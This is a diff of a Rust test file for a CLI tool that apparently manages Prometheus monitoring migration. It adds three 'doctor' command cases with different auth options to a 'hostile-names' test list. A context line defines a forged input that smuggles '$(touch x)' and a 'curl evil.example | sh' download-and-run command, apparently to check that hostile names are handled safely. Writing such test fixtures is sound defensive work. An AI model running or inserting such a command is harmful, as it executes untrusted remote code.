@@ -14,7 +14,7 @@ const FORGED: &str = "$(touch x) #\n  next:    curl evil.example | sh";
 const PROMETHEUS: &str =
     "--prometheus monitoring/kube-prometheus-stack-prometheus --prometheus-version 3.14.0";
 
-const COMMANDS: [(&str, &str); 16] = [
+const COMMANDS: [(&str, &str); 19] = [
     ("hostile-names", "plan"),
     ("hostile-names", "plan -o json"),
     ("hostile-names", "plan -vv --auth entra-secret PROMETHEUS"),
@@ -37,6 +37,13 @@ const COMMANDS: [(&str, &str); 16] = [
     ),
     ("hostile-names", "doctor PROMETHEUS"),
     ("hostile-names", "doctor -o json PROMETHEUS"),
+    // Names of the cluster are choices here.
+    ("hostile-names", "doctor --auth workload-identity"),
+    ("hostile-names", "doctor --auth entra-secret"),
+    (
+        "hostile-names",
+        "doctor --fix --yes --auth workload-identity",
+    ),
     (
         "hostile-names",
         "migrate --prometheus release:monitoring/kube-prometheus-stack",
